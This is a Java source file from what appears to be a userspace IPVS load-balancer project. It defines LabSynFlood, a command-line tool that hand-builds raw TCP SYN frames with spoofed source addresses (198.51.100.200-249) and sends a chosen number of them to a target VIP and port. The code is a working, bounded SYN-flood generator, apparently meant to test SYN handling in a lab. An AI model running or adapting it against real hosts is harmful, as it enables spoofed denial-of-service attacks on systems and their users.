package org.lvsd.ipvs.userspace;

import java.net.InetAddress;
import java.nio.ByteBuffer;
import org.lvsd.ipvs.userspace.dr.FramePort;
import org.lvsd.ipvs.userspace.dr.L4Checksum;
import org.lvsd.ipvs.userspace.dr.PacketFramePort;
import org.lvsd.ipvs.userspace.dr.SocketFilter;

/**
 * A bounded SYN flood for lab hosts: {@code LabSynFlood IFACE DST_MAC VIP PORT COUNT} sends COUNT
 * TCP SYNs from spoofed sources 198.51.100.200-249 (no such hosts: the SYN-ACKs go unanswered)
 * through the interface (receiving nothing: its socket filter passes no frame), then exits.
 */
public final class LabSynFlood {
    private LabSynFlood() {
    }

    public static void main(String[] args) throws Exception {
        byte[] dstMac = mac(args[1]);
        byte[] vip = InetAddress.getByName(args[2]).getAddress();
        int port = Integer.parseInt(args[3]);
        int count = Integer.parseInt(args[4]);
        try (FramePort out = PacketFramePort.open(args[0], SocketFilter.NOTHING, 10)) {
            byte[] src = out.mac();
            for (int i = 0; i < count; i++) {
                out.send(syn(src, dstMac, 200 + i % 50, 10000 + i, vip, port, 0x10000000 + i * 7919));
            }
            out.flush();
        }
        System.out.println("sent " + count);
    }

    private static ByteBuffer syn(byte[] srcMac, byte[] dstMac, int host, int sport, byte[] vip, int port, int seq) {
        byte[] f = new byte[14 + 20 + 20];
        System.arraycopy(dstMac, 0, f, 0, 6);
        System.arraycopy(srcMac, 0, f, 6, 6);
        f[12] = 0x08;
        int ip = 14;
        f[ip] = 0x45;
        f[ip + 3] = 40;
        f[ip + 6] = 0x40;
        f[ip + 8] = 64;
        f[ip + 9] = 6;
        f[ip + 12] = (byte) 198;
        f[ip + 13] = 51;
        f[ip + 14] = 100;
        f[ip + 15] = (byte) host;
        System.arraycopy(vip, 0, f, ip + 16, 4);
        int sum = 0;
        for (int i = ip; i < ip + 20; i += 2) {
            sum += ((f[i] & 0xff) << 8) | (f[i + 1] & 0xff);
        }
        sum = (sum & 0xffff) + (sum >>> 16);
        sum = (sum & 0xffff) + (sum >>> 16);
        f[ip + 10] = (byte) (~sum >>> 8);
        f[ip + 11] = (byte) ~sum;
        int tcp = ip + 20;
        f[tcp] = (byte) (sport >>> 8);
        f[tcp + 1] = (byte) sport;
        f[tcp + 2] = (byte) (port >>> 8);
        f[tcp + 3] = (byte) port;
        f[tcp + 4] = (byte) (seq >>> 24);
        f[tcp + 5] = (byte) (seq >>> 16);
        f[tcp + 6] = (byte) (seq >>> 8);
        f[tcp + 7] = (byte) seq;
        f[tcp + 12] = 0x50;
        f[tcp + 13] = 0x02;
        f[tcp + 14] = (byte) 0xff;
        f[tcp + 15] = (byte) 0xff;
        ByteBuffer frame = ByteBuffer.wrap(f);
        L4Checksum.fix(frame);
        return frame;
    }

    private static byte[] mac(String text) {
        String[] parts = text.split(":");
        byte[] b = new byte[6];
        for (int i = 0; i < 6; i++) {
            b[i] = (byte) Integer.parseInt(parts[i], 16);
        }
        return b;
    }
}
